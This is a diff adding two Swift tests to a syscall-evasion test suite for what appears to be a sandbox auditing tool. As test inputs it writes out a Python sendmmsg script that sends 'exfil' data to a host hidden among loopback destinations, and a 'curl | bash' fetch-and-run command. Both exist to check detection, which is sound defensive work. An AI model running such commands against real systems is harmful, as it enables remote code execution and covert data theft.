@@ -198,6 +198,66 @@ final class SyscallEvasionTests: XCTestCase {
         XCTAssertEqual(try String(contentsOfFile: dir + "/out", encoding: .utf8), "connect -\(EPERM)\n")
     }
 
+    // MARK: the network
+
+    /// sendmmsg: every message's destination is judged, not just the first.
+    func testSendmmsgJudgesEveryDestination() throws {
+        let dir = try Kernel.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let host = try TestHost(subnet: 1)
+        defer { host.close() }
+        let script = """
+            import ctypes, socket, sys
+            libc = ctypes.CDLL(None, use_errno=True)
+            class iovec(ctypes.Structure):
+                _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
+            class msghdr(ctypes.Structure):
+                _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(iovec)),
+                            ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
+            class mmsghdr(ctypes.Structure):
+                _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint)]
+            def sockaddr(ip, port):
+                raw = ctypes.create_string_buffer(16)
+                raw[0:2] = (socket.AF_INET).to_bytes(2, 'little'); raw[2:4] = port.to_bytes(2, 'big'); raw[4:8] = socket.inet_aton(ip)
+                return raw
+            payload = ctypes.create_string_buffer(b'exfil', 5)
+            io = iovec(ctypes.cast(payload, ctypes.c_void_p), 5)
+            names = [sockaddr('127.0.0.1', 9), sockaddr('127.0.0.1', 9), sockaddr(sys.argv[1], 5353)]
+            vec = (mmsghdr * 3)()
+            for i, n in enumerate(names):
+                vec[i].hdr.name = ctypes.cast(n, ctypes.c_void_p); vec[i].hdr.namelen = 16
+                vec[i].hdr.iov = ctypes.pointer(io); vec[i].hdr.iovlen = 1
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            print('sent', libc.sendmmsg(s.fileno(), vec, 3, 0))
+            """
+        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script, host.address])
+        XCTAssertEqual(run.status, 86, run.stderr)
+        let egress = try XCTUnwrap(try rules(dir + "/r")["egress"], run.stderr)
+        XCTAssertEqual(egress.map { ($0["evidence"] as? [String: Any])?["address"] as? String }, [host.address], "\(egress)")
+        let events = try String(contentsOfFile: dir + "/r/events.jsonl", encoding: .utf8)
+        let sends = events.split(separator: "\n").filter { $0.contains("\"syscall\":\"sendmmsg\"") }
+        XCTAssertEqual(sends.count, 2, "one record per destination change: \(sends)")
+    }
+
+    /// `curl | bash` from a host off loopback: the download is `egress`, charged to the command.
+    func testCurlPipedToBashIsEgress() throws {
+        let dir = try Kernel.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let host = try TestHost(subnet: 2)
+        defer { host.close() }
+        try FileManager.default.createDirectory(atPath: dir + "/site", withIntermediateDirectories: true)
+        try "echo stage2 ran > \(dir)/ran\n".write(toFile: dir + "/site/x.sh", atomically: true, encoding: .utf8)
+        try host.serveHTTP(dir + "/site", port: 8443)
+        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "/bin/bash", "-c", "curl -s http://\(host.address):8443/x.sh | bash"])
+        XCTAssertEqual(run.status, 86, run.stderr)
+        XCTAssertTrue(FileManager.default.fileExists(atPath: dir + "/ran"), "audit mode lets it run: \(run.stderr)")
+        let egress = try XCTUnwrap(try rules(dir + "/r")["egress"], run.stderr)
+        let finding = try XCTUnwrap(egress.first)
+        XCTAssertEqual((finding["evidence"] as? [String: Any])?["port"] as? Int, 8443)
+        XCTAssertEqual(finding["contract"] as? String, "default", "\(finding)")
+        XCTAssertEqual((finding["attribution"] as? [String: Any])?["reason"] as? String, "workspace", "\(finding)")
+    }
+
     // MARK: the 32-bit ABI
 
     func testCompatSyscallIsAViolationAndIsKilledInEnforceMode() throws {
